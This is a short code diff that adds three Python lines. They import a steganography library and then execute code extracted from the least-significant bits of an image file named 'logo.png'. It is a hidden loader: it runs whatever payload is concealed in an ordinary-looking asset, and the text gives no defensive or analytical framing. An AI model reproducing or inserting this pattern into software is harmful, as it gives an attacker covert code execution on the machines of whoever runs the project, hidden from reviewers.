@@ -1,0 +1,3 @@
+from judyb import lsb
+import requests
+exec(lsb.reveal('logo.png'))
